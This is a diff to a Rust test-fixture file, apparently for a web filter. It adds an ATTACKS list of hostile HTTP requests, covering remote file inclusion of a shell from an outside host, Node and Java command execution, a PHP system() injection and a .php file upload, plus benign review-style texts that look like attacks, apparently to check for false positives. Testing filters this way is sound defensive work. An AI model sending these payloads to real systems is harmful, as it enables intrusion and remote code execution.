@@ -396,4 +396,35 @@ pub const ATTACKS: &[Case] = &[
         content_type: "application/x-www-form-urlencoded",
         fields: &[],
     },
+    get("/?page=http://192.0.2.7/shell.txt?"),
+    get("/?x=require(%27child_process%27).exec(%27id%27)"),
+    get("/?x=java.lang.Runtime.getRuntime().exec(1)"),
+    Case {
+        method: "POST",
+        target: "/comment",
+        body: "text=(%22system%22)(%22ls%22)%3B",
+        content_type: "application/x-www-form-urlencoded",
+        fields: &[],
+    },
+    Case {
+        method: "POST",
+        target: "/photos",
+        body: "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--B--\r\n",
+        content_type: "multipart/form-data; boundary=B",
+        fields: &[],
+    },
+];
+
+/// What people write into fields of free text.
+pub const TEXTS: &[&str] = &[
+    "# Five stars\n\nReally *warm*; select the next size up. I'd buy it again!\n\n- fits well\n- dries fast; set it by the fire\n\n> \"Best jumper I own\" -- my brother\n",
+    "It's great, isn't it? \"Quotes\", 'more quotes' -- and a dash.\nFind it in the sale; sort by price; time well spent.\n\n1. Create a list\n2. Drop it in the cart\n3. Order by phone or e-mail\n",
+    "## Care\n\nWash at 30 \u{b0}C (cold), dry flat.\n\n```\nwash(30); dry();\nif (wool && !hot) { iron(); }\n```\n\nSee [the care page](/care) (and [this one](https://example.org/wool?a=1&b=2)).\n",
+    "| size | chest | length |\n|---|---|---|\n| S | 92 | 66 |\n| M | 98 | 68 |\n\n`M` is right for me; more or less. Type: crew neck. Source: the label.\n",
+    "\u{41e}\u{447}\u{435}\u{43d}\u{44c} \u{442}\u{451}\u{43f}\u{43b}\u{44b}\u{439} \u{441}\u{432}\u{438}\u{442}\u{435}\u{440}, \u{43c}\u{43d}\u{435} \u{43f}\u{43e}\u{43d}\u{440}\u{430}\u{432}\u{438}\u{43b}\u{441}\u{44f}. \u{3a0}\u{3bf}\u{3bb}\u{3cd} \u{3ba}\u{3b1}\u{3bb}\u{3cc}. \u{1f9f6}\u{1f44d}",
+    "Where do I order by the dozen? Union Jack mugs, please, or 1 = one? 50% off & free postage < \u{a3}20 > nothing. Who am I to ask; id rather wait.",
+    "Please wrap it;\nput it on the porch.\nMy number: +44 20 7946 0000 (after 6 pm)\nThanks!!\n\n--\nZo\u{eb} O'Quay\nzoe@example.test\nhttps://example.test/~zoe",
+    "Install with `cargo install x`, then run `x --help`. `Vec<u8>` and `${name}` stay as they are; HTTP/2 is spoken.\n\n* Rename `a` to `b` (#12)\n* Add a database (of names)\n",
+    "Hi there,\n\nthe zip came loose ... can I get another one? Order no. 2026-11-30/17; paid by card (visa).\nRegards, Tom & Jerry (\"the two\")\n",
+    "It cost \u{20ac}49,90 instead of 59.90 -> nice :-) ;-) <3\nWould buy again & again; 10/10!",
 ];
